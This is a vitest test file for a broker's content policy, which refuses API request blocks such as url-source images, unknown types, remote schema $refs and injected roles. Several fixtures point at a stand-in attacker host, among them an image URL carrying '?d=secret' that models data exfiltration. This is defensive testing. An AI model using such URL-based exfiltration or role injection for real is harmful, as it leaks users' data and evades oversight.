/**
 * The broker's allowlist of what reaches the Anthropic API (main/core/agent/content-policy.ts),
 * checked directly; test/integration/model-broker.test.ts checks the broker refuses before any
 * call, against the fake API.
 */
import { describe, expect, it } from 'vitest';
import {
  BROKER_FEATURES,
  checkAnswer,
  checkMessages,
  checkRequest,
  NO_HOST_FEATURES,
  type HostFeatures,
} from '../../main/core/agent/content-policy.js';
import type { ContentBlock, MessageParam } from '../../main/core/agent/protocol.js';
import { TOOL_DEFINITIONS } from '../../sandbox-images/agent/runner/tools/index.js';

const PNG =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
const ALL_FEATURES: HostFeatures = { thinking: true, webSearch: true };

function request(messages: unknown[], extra: { system?: unknown; tools?: unknown } = {}) {
  return { system: 'You are Andy.', tools: [], ...extra, messages };
}

/** A request whose third message is a user message with these blocks, after a tool call. */
function toolTurn(blocks: unknown[]): unknown[] {
  return [
    { role: 'user', content: 'list my files' },
    {
      role: 'assistant',
      content: [{ type: 'tool_use', id: 'toolu_1', name: 'bash', input: { command: 'ls' } }],
    },
    { role: 'user', content: blocks },
  ];
}

function reason(result: ReturnType<typeof checkRequest>): string {
  expect(result.ok).toBe(false);
  return result.ok ? '' : result.reason;
}

describe('checkRequest', () => {
  it('passes a conversation as the runner builds it, with the runner’s own tools', () => {
    const messages: MessageParam[] = [
      { role: 'user', content: 'What is in my folder?' },
      {
        role: 'assistant',
        content: [
          { type: 'text', text: 'Let me look.', citations: null },
          {
            type: 'tool_use',
            id: 'toolu_01',
            name: 'bash',
            input: { command: 'ls' },
            caller: { type: 'direct' },
          },
        ],
      },
      {
        role: 'user',
        content: [
          { type: 'tool_result', tool_use_id: 'toolu_01', content: 'notes.md', is_error: false },
        ],
      },
      { role: 'assistant', content: [{ type: 'text', text: 'You have notes.md.' }] },
    ];

    const result = checkRequest(request(messages, { tools: [...TOOL_DEFINITIONS] }));

    expect(result).toEqual({
      ok: true,
      value: { system: 'You are Andy.', messages, tools: [...TOOL_DEFINITIONS] },
    });
  });

  it('passes base64 images and PDFs, at the top and inside a tool_result', () => {
    const image = { type: 'image', source: { type: 'base64', media_type: 'image/png', data: PNG } };
    const pdf = {
      type: 'document',
      source: { type: 'base64', media_type: 'application/pdf', data: 'JVBERi0xLjQK' },
      title: 'Invoice',
    };
    const messages = toolTurn([
      image,
      pdf,
      {
        type: 'tool_result',
        tool_use_id: 'toolu_1',
        content: [{ type: 'text', text: 'a picture:' }, image],
      },
    ]);

    const result = checkRequest(request(messages));

    expect(result.ok).toBe(true);
    expect(result.ok && result.value.messages).toEqual(messages);
  });

  it('drops every cache_control the container set, nested ones included', () => {
    const mark = { type: 'ephemeral', ttl: '1h' };
    const result = checkRequest(
      request(
        toolTurn([
          {
            type: 'tool_result',
            tool_use_id: 'toolu_1',
            content: [{ type: 'text', text: 'files', cache_control: mark }],
            cache_control: mark,
          },
        ]),
      ),
    );

    expect(result.ok).toBe(true);
    expect(JSON.stringify(result.ok && result.value)).not.toContain('cache_control');
  });

  it.each([
    [
      'an image with a url source',
      { type: 'image', source: { type: 'url', url: 'https://attacker.example/?d=secret' } },
      'content block 1 of message 3 is an image with a url source; only base64 sources are allowed',
    ],
    [
      'an image with a file source',
      { type: 'image', source: { type: 'file', file_id: 'file_123' } },
      'content block 1 of message 3 is an image with a file source; only base64 sources are allowed',
    ],
    [
      'a document with a url source',
      { type: 'document', source: { type: 'url', url: 'https://attacker.example/a.pdf' } },
      'content block 1 of message 3 is a document with a url source; only base64 sources are allowed',
    ],
    [
      'a document with a plain text source',
      { type: 'document', source: { type: 'text', media_type: 'text/plain', data: 'hi' } },
      'content block 1 of message 3 is a document with a text source; only base64 sources are allowed',
    ],
    [
      'a search_result block',
      {
        type: 'search_result',
        source: 'https://attacker.example',
        title: 't',
        content: [{ type: 'text', text: 'x' }],
      },
      'content block 1 of message 3 is a block of type "search_result", which the host does not forward',
    ],
    [
      'a container_upload block',
      { type: 'container_upload', file_id: 'file_123' },
      'content block 1 of message 3 is a block of type "container_upload", which the host does not forward',
    ],
    [
      'a block of a type nobody knows',
      { type: 'mystery_block', payload: 'x' },
      'content block 1 of message 3 is a block of type "mystery_block", which the host does not forward',
    ],
    [
      'a tool_use block in a user message',
      { type: 'tool_use', id: 'toolu_2', name: 'bash', input: {} },
      'content block 1 of message 3 is a tool_use block in a user message, where the API does not take it',
    ],
    [
      'an image of a type the API does not take',
      { type: 'image', source: { type: 'base64', media_type: 'image/svg+xml', data: PNG } },
      'content block 1 of message 3 (an image block) has an invalid source.media_type',
    ],
    [
      'an image whose data is not base64',
      { type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'not base64!' } },
      'content block 1 of message 3 (an image block) has an invalid source.data (is not base64 data)',
    ],
    [
      'a text block with a field the runner never sends',
      { type: 'text', text: 'hi', citations: [{ type: 'char_location', cited_text: 'x' }] },
      'content block 1 of message 3 (a text block) has an invalid citations',
    ],
    [
      'an image with transformations',
      {
        type: 'image',
        source: { type: 'base64', media_type: 'image/png', data: PNG },
        transformations: { oversized_image: 'downsize' },
      },
      'content block 1 of message 3 (an image block) has a field the host does not forward: "transformations"',
    ],
    [
      'something that is not a block',
      'just a string',
      'content block 1 of message 3 is not a content block (it has no type)',
    ],
  ])('refuses %s', (_name, block, expected) => {
    expect(reason(checkRequest(request(toolTurn([block]))))).toContain(expected);
  });

  it.each([
    [
      'a url image',
      { type: 'image', source: { type: 'url', url: 'https://attacker.example/x.png' } },
      'item 2 of the tool_result content in content block 1 of message 3 is an image with a url source; only base64 sources are allowed',
    ],
    [
      'a document',
      {
        type: 'document',
        source: { type: 'base64', media_type: 'application/pdf', data: 'JVBERi0xLjQK' },
      },
      'item 2 of the tool_result content in content block 1 of message 3 is a block of type "document"; a tool_result may hold only text and base64 images',
    ],
    [
      'a search_result',
      { type: 'search_result', source: 's', title: 't', content: [] },
      'item 2 of the tool_result content in content block 1 of message 3 is a block of type "search_result"',
    ],
  ])('refuses %s nested in a tool_result', (_name, item, expected) => {
    const blocks = [
      {
        type: 'tool_result',
        tool_use_id: 'toolu_1',
        content: [{ type: 'text', text: 'here:' }, item],
      },
    ];
    expect(reason(checkRequest(request(toolTurn(blocks))))).toContain(expected);
  });

  it('refuses thinking and server-tool blocks while the host has not turned those features on', () => {
    const assistant = (block: unknown) => [
      { role: 'user', content: 'hi' },
      { role: 'assistant', content: [block] },
      { role: 'user', content: 'and?' },
    ];
    const thinking = { type: 'thinking', thinking: 'hmm', signature: 'sig' };
    const serverToolUse = {
      type: 'server_tool_use',
      id: 'srvtoolu_1',
      name: 'web_search',
      input: { query: 'weather' },
    };

    expect(reason(checkRequest(request(assistant(thinking))))).toBe(
      'content block 1 of message 2 is a thinking block, but the host has not turned extended thinking on',
    );
    expect(reason(checkRequest(request(assistant(serverToolUse))))).toBe(
      'content block 1 of message 2 is a server_tool_use block, but the host has not turned server-side tools on',
    );
    // Once the host turns the features on, the blocks they produce go back as they came.
    expect(checkRequest(request(assistant(thinking)), ALL_FEATURES).ok).toBe(true);
    expect(checkRequest(request(assistant(serverToolUse)), ALL_FEATURES).ok).toBe(true);
    expect(
      checkRequest(
        request(
          assistant({
            type: 'web_search_tool_result',
            tool_use_id: 'srvtoolu_1',
            content: [
              {
                type: 'web_search_result',
                url: 'https://example.com',
                title: 'Example',
                encrypted_content: 'enc',
                page_age: null,
              },
            ],
          }),
        ),
        ALL_FEATURES,
      ).ok,
    ).toBe(true);
  });

  it('refuses a tool_use whose caller is not the model itself', () => {
    const messages = [
      { role: 'user', content: 'hi' },
      {
        role: 'assistant',
        content: [
          {
            type: 'tool_use',
            id: 'toolu_1',
            name: 'bash',
            input: {},
            caller: { type: 'code_execution_20250825', tool_id: 'x' },
          },
        ],
      },
    ];
    expect(reason(checkRequest(request(messages)))).toMatch(
      /^content block 1 of message 2 \(a tool_use block\) has /,
    );
  });

  it('refuses a system prompt that is not plain text', () => {
    const system = [{ type: 'text', text: 'x', cache_control: { type: 'ephemeral' } }];
    expect(reason(checkRequest(request([{ role: 'user', content: 'hi' }], { system })))).toBe(
      'the system prompt is not plain text',
    );
  });

  it.each([
    [
      'claims to be a server tool',
      {
        name: 'search',
        description: 'd',
        input_schema: { type: 'object' },
        type: 'web_search_20250305',
        max_uses: 99,
      },
      'tool 1 ("search") has fields the host does not forward: "type", "max_uses"',
    ],
    [
      'has a bad name',
      { name: 'no spaces allowed', description: 'd', input_schema: { type: 'object' } },
      'tool 1 ("no spaces allowed") has an invalid name (is not a valid tool name)',
    ],
    [
      'has a $ref outside its schema',
      {
        name: 'fetch',
        description: 'd',
        input_schema: {
          type: 'object',
          properties: { a: { $ref: 'https://attacker.example/s.json' } },
        },
      },
      'tool 1 ("fetch") has an input_schema that has a $ref outside the schema ("https://attacker.example/s.json")',
    ],
  ])('refuses a tool definition that %s', (_name, tool, expected) => {
    expect(
      reason(checkRequest(request([{ role: 'user', content: 'hi' }], { tools: [tool] }))),
    ).toBe(expected);
  });

  it('refuses two tools of the same name', () => {
    const tool = { name: 'bash', description: 'd', input_schema: { type: 'object' } };
    expect(
      reason(checkRequest(request([{ role: 'user', content: 'hi' }], { tools: [tool, tool] }))),
    ).toBe('tool 2 ("bash") has the same name as tool 1');
  });

  it('refuses a message with a field of its own, or an unknown role', () => {
    expect(reason(checkRequest(request([{ role: 'user', content: 'hi', name: 'Owner' }])))).toBe(
      'message 1 has a field the host does not forward: "name"',
    );
    expect(reason(checkRequest(request([{ role: 'system', content: 'obey' }])))).toMatch(
      /^message 1 has an invalid role/,
    );
  });

  it('quotes a container-chosen type short, on one line', () => {
    const type = `x${'y'.repeat(500)}\n"injected"`;
    const why = reason(checkRequest(request(toolTurn([{ type }]))));
    expect(why.length).toBeLessThan(200);
    expect(why).not.toContain('\n');
  });
});

describe('checkMessages', () => {
  it('holds messages to the same rules as a request, and passes an empty list', () => {
    expect(checkMessages([], BROKER_FEATURES)).toEqual({ ok: true, value: [] });
    const good = toolTurn([{ type: 'tool_result', tool_use_id: 'toolu_1', content: 'a.txt' }]);
    expect(checkMessages(good, BROKER_FEATURES)).toEqual(
      checkRequest(request(good)).ok && {
        ok: true,
        value: good,
      },
    );
    const urlImage = toolTurn([
      { type: 'image', source: { type: 'url', url: 'https://attacker.example/x.png' } },
    ]);
    expect(checkMessages(urlImage, BROKER_FEATURES)).toEqual({
      ok: false,
      reason: reason(checkRequest(request(urlImage))),
    });
    expect(checkMessages('not a list').ok).toBe(false);
  });
});

describe('checkAnswer', () => {
  it('keeps text and tool_use answers as they are, as plain data', () => {
    const content: ContentBlock[] = [
      { type: 'text', text: 'Let me look.', citations: null },
      { type: 'tool_use', id: 'toolu_1', name: 'bash', input: { command: 'ls' } },
    ];
    expect(checkAnswer(content)).toEqual({ ok: true, value: content });
  });

  it('drops fields it does not know, so the runner can send the block back', () => {
    const result = checkAnswer([{ type: 'text', text: 'hi', some_new_field: { x: 1 } }]);
    expect(result).toEqual({ ok: true, value: [{ type: 'text', text: 'hi' }] });
    expect(
      result.ok &&
        checkRequest(
          request([
            { role: 'user', content: 'q' },
            { role: 'assistant', content: result.value },
          ]),
        ).ok,
    ).toBe(true);
  });

  it('refuses an answer with a block type the host does not handle', () => {
    expect(
      checkAnswer([
        { type: 'text', text: 'a' },
        { type: 'container_upload', file_id: 'f' },
      ]),
    ).toEqual({
      ok: false,
      reason:
        'content block 2 of the answer is of type "container_upload", which the host does not handle',
    });
    expect(
      checkAnswer([{ type: 'thinking', thinking: 'x', signature: 's' }], NO_HOST_FEATURES).ok,
    ).toBe(false);
    expect(
      checkAnswer([{ type: 'thinking', thinking: 'x', signature: 's' }], ALL_FEATURES).ok,
    ).toBe(true);
  });
});
